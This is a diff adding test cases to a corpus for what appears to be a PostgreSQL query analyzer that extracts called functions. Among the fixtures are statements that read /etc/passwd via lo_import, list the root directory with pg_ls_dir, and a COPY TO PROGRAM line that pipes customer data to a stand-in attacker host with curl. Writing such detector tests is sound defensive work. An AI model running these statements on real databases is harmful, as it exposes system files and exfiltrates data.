@@ -106,6 +106,33 @@ CORPUS: list[Case] = [
         {"kind": "ddl", "functions": ("pg_read_file",)},
     ),
     Case("CALL pg_catalog.do_evil(1)", {"kind": "call", "functions": ("pg_catalog.do_evil",)}),
+    Case("CALL p(lo_import('/etc/passwd'))", {"functions": ("p", "lo_import")}),
+    Case("SELECT * FROM ROWS FROM (pg_ls_dir('/'), f()) r", {"functions": ("pg_ls_dir",)}),
+    Case(
+        "SELECT * FROM XMLTABLE('/a' PASSING pg_read_file('x') COLUMNS v text PATH 'b')",
+        {"functions": ("pg_read_file",)},
+    ),
+    Case(
+        "SELECT sum(a) FILTER (WHERE f1(a)) OVER (PARTITION BY f2(b)) FROM t "
+        "GROUP BY GROUPING SETS ((f3(a))) HAVING f4() ORDER BY f5() LIMIT f6()",
+        {"functions": ("f1", "f2", "f3", "f4", "f5", "f6", "sum")},
+    ),
+    Case(
+        "INSERT INTO t VALUES (1) ON CONFLICT (a) DO UPDATE SET a = f1() RETURNING f2()",
+        {"functions": ("f1", "f2")},
+    ),
+    Case(
+        "CREATE TABLE t (a int CHECK (f1(a)), b int GENERATED ALWAYS AS (f2(a)) STORED)",
+        {"functions": ("f1", "f2")},
+    ),
+    Case(
+        "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT f1(); END",
+        {"kind": "ddl", "functions": ("f1",)},
+    ),
+    Case(
+        "CREATE TRIGGER g BEFORE INSERT ON t EXECUTE FUNCTION evil()",
+        {"kind": "ddl", "functions": ("evil",), "writes": ("t",)},
+    ),
     # COPY: programs and bulk reads.
     Case(
         "COPY customers TO PROGRAM 'curl -d @- https://evil'",
